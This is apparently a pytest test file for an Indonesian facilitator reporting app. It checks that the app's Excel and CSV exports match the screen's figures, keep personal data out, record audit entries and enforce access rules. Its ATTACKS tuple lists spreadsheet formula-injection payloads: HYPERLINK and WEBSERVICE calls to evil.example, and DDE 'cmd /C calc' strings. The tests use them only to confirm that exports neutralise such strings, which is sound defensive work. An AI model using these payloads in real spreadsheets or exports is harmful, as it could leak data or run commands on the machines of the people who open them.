"""The month's Excel files: the screen's numbers, nothing personal where none belongs, and no cell that a spreadsheet
would run."""

import io
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime
from typing import Any

import pytest
import python_calamine
import sqlalchemy as sa
from openpyxl import load_workbook

from data import clock, commands, db, queries, schema
from data.access import Who
from data.export import cell
from data.months import NUMBERS
from data.people import demo_person
from data.problem import Problem
from data.text import LANGUAGES, text
from data.workbook import Column, Sheet, workbook
from tests.small import GAMBIRAN, KALISAT, Small

NOVEMBER = date(2026, 11, 1)
ATTACKS = (
    '=HYPERLINK("http://evil.example/"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "  =1+1",
    "\r=1+1",
    '=WEBSERVICE("http://evil.example/")',
    'DDE("cmd";"/C calc";"x")',
)


@pytest.fixture(autouse=True)
def noon(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(clock, "now", lambda: datetime(2026, 11, 24, 5, tzinfo=UTC))


def rows(book: bytes, sheet: str, headings: int) -> list[dict[str, Any]]:
    """The rows under the headings, as calamine reads them."""
    lines = python_calamine.load_workbook(io.BytesIO(book)).get_sheet_by_name(sheet).to_python()
    return [dict(zip(lines[headings], line, strict=True)) for line in lines[headings + 1 :]]


# --- cells -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_text_is_never_a_formula(attack: str) -> None:
    columns = {"a": Column(attack)}
    book = workbook([Sheet("Lembar", [attack], columns, [{"a": attack}])], None)
    for line in range(1, 4):
        found = load_workbook(io.BytesIO(book)).active.cell(line, 1)
        kept = attack.replace("\r", "\n")
        assert (found.data_type, found.value.replace("\r", "\n").replace("_x000D_", "\n")) == ("s", kept)
        assert found.quotePrefix == (not attack.startswith("DDE"))
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
        assert not [name for name in parts.namelist() if "external" in name.lower()]


def test_the_csv_guards_the_same_texts() -> None:
    assert [cell(attack).startswith("'") for attack in ATTACKS] == [not a.startswith("DDE") for a in ATTACKS]


def test_signs_no_spreadsheet_can_hold_are_left_out() -> None:
    book = workbook([Sheet("Lembar", [], {"a": Column("A")}, [{"a": "Mebel\x00\x0b Jati" + "x" * 40_000}])], None)
    value = load_workbook(io.BytesIO(book)).active["A2"].value
    assert value.startswith("Mebel Jati")
    assert len(value) == 32_767


def test_dates_and_numbers_are_dates_and_numbers() -> None:
    columns = {
        "d": Column("D", "day"),
        "n": Column("N", "count"),
        "s": Column("S", "share"),
        "k": Column("K", "decimal"),
    }
    row = {"d": date(2026, 11, 24), "n": 1200, "s": 0.85, "k": None}
    sheet = load_workbook(io.BytesIO(workbook([Sheet("L", ["x"], columns, [row])], "DATA CONTOH"))).active
    assert [one.value for one in sheet[4]] == [datetime(2026, 11, 24), 1200, 0.85, None]
    assert [one.number_format for one in sheet[4]][:3] == ["[$-421]d mmmm yyyy", "#,##0", "0 %"]
    assert sheet["A1"].value == "DATA CONTOH"
    assert sheet.freeze_panes == "B4"


# --- the month of everybody ------------------------------------------------------------------------------------------


@pytest.fixture
def sari(machine: Who) -> str:
    """A facilitator with a caseload whose every text is an attack, and personal data that must stay where they are."""
    small = Small(machine)
    made = small.facilitator(ATTACKS[0], capacity=4)
    small.assign(made, kecamatan_code=KALISAT)
    for attack in ATTACKS[:3]:
        actor = small.actor(attack, GAMBIRAN, owner="Pemilik Rahasia", phone="081199887766", address="Jl. Rahasia")
        small.visit(
            actor,
            made,
            date(2026, 11, 2),
            result=f"{attack} hasil",
            next_step=f"{attack} janji",
            next_due=date(2026, 11, 5),
            topics="modal npwp",
        )
    return made


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_files_numbers_are_the_screens(leader: Who, sari: str, language: str) -> None:
    found = queries.team_month(leader, NOVEMBER)
    book = commands.month_workbook(leader, NOVEMBER, language)
    (line,) = rows(book, text("monthly.sheet_numbers", language), 3)
    (row,) = found.rows
    for name in NUMBERS:
        value, shown = getattr(row, name), line[text(f"monthly.field.{name}", language)]
        assert shown == ("" if value is None else pytest.approx(value)), name
    assert (row.caseload, row.visits, row.overdue, row.load) == (3, 3, 3, 0.75)
    assert line[text("monthly.field.load_band", language)] == text("monthly.load.light", language)
    meanings = rows(book, text("monthly.sheet_meanings", language), 2)
    assert len(meanings) == len(NUMBERS)


def test_the_files_say_that_the_data_are_not_real(leader: Who, sari: str, clerk: Who) -> None:
    for book in (commands.month_workbook(leader, NOVEMBER), commands.activity_report(clerk, sari, NOVEMBER)):
        for sheet in load_workbook(io.BytesIO(book)):
            assert sheet["A1"].value == text("banner.uji")


def test_the_month_of_everybody_names_no_actor(leader: Who, sari: str) -> None:
    with zipfile.ZipFile(io.BytesIO(commands.month_workbook(leader, NOVEMBER))) as parts:
        whole = b"".join(parts.read(name) for name in parts.namelist())
    for secret in (b"hasil", b"cmd|", b"Rahasia", b"0811998"):
        assert secret not in whole.replace(b"Hasil", b""), secret


# --- the activity of one ---------------------------------------------------------------------------------------------


def test_the_activity_holds_contacts_and_promises_as_text(clerk: Who, sari: str) -> None:
    book = commands.activity_report(clerk, sari, NOVEMBER)
    contacts = rows(book, "Kunjungan", 2)
    assert {line["Nama usaha"] for line in contacts} == set(ATTACKS[:3])
    assert {line["Hasil"] for line in contacts} == {f"{attack} hasil" for attack in ATTACKS[:3]}
    assert {(line["Tanggal"], line["Desa/kelurahan"], line["Topik"]) for line in contacts} == {
        (date(2026, 11, 2), "Gambiran", "Modal, NPWP")
    }
    promises = rows(book, "Janji", 2)
    assert [(line["Jatuh tempo"], line["Kali ditunda"]) for line in promises] == [(date(2026, 11, 5), 0)] * 3
    for sheet in load_workbook(io.BytesIO(book)):
        for line in sheet.iter_rows():
            for one in line:
                assert one.data_type != "f"
                if isinstance(one.value, str) and one.value in ATTACKS:
                    assert one.quotePrefix
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        whole = b"".join(parts.read(name) for name in parts.namelist())
    assert b"Rahasia" not in whole
    assert b"0811998" not in whole


def test_the_activitys_numbers_are_the_screens(clerk: Who, sari: str) -> None:
    (row,) = queries.team_month(clerk, NOVEMBER, sari).rows
    lines = {
        line["Angka"]: line["Nilai"] for line in rows(commands.activity_report(clerk, sari, NOVEMBER), "Ringkasan", 3)
    }
    for name in NUMBERS:
        value = getattr(row, name)
        assert lines[text(f"monthly.field.{name}")] == ("" if value is None else pytest.approx(value)), name


def audits(who: Who) -> list[tuple[str, str, str]]:
    table = schema.audit
    with db.read(who) as conn:
        asked = sa.select(table.c.deed, table.c.about_kind, table.c.about_id).order_by(table.c.id)
        return [tuple(row) for row in conn.execute(asked)]


def test_each_file_and_look_is_written_down_and_changes_nothing(clerk: Who, leader: Who, sari: str) -> None:
    def version() -> int:
        with db.read(clerk) as conn:
            return db.version(conn, clerk.kab)

    told, before = audits(clerk), version()
    commands.activity_report(clerk, sari, NOVEMBER)
    commands.open_activity(clerk, sari, NOVEMBER)
    commands.month_workbook(leader, NOVEMBER)
    assert sorted(audits(clerk)[len(told) :]) == [
        ("report.make", "facilitator", sari),
        ("report.make", "facilitator", sari),
        ("team.see", "month", "2026-11"),
    ]
    assert version() == before


def test_a_pendamping_gets_the_own_report_and_no_text_about_what_is_no_longer_theirs(
    register: str, machine: Who, sari: str
) -> None:
    small = Small(machine)
    rini = small.facilitator("Rini")
    her = Who(register, machine.kab, "pendamping", "s", "Sari", sari)
    handed_over = small.actor("Kini binaan Rini", GAMBIRAN)
    small.visit(handed_over, sari, date(2026, 11, 3), result="rahasia", next_step="rahasia", next_due=date(2026, 11, 9))
    small.assign(rini, actor_id=handed_over)
    found = commands.open_activity(her, sari, NOVEMBER)
    texts = {row["business_name"]: (row["result"], row["next_step"]) for row in found.contacts}
    assert texts.pop("Kini binaan Rini") == (None, None)
    assert all(all(pair) for pair in texts.values())
    assert "Kini binaan Rini" not in {row["business_name"] for row in found.promises}
    seen = commands.open_activity(demo_person(register, "petugas"), sari, NOVEMBER)
    assert ("rahasia", "rahasia") in {(row["result"], row["next_step"]) for row in seen.contacts}
    told = audits(her)
    for ask in (commands.open_activity, commands.activity_report):
        refuse(lambda ask=ask: ask(her, rini, NOVEMBER), "not_your_caseload")
        refuse(lambda ask=ask: ask(demo_person(register, "pimpinan"), sari, NOVEMBER), "not_allowed")
    refuse(lambda: commands.month_workbook(her, NOVEMBER), "not_allowed")
    assert audits(her) == told


def refuse(ask: Callable[[], Any], code: str) -> None:
    with pytest.raises(Problem) as caught:
        ask()
    assert caught.value.code == code
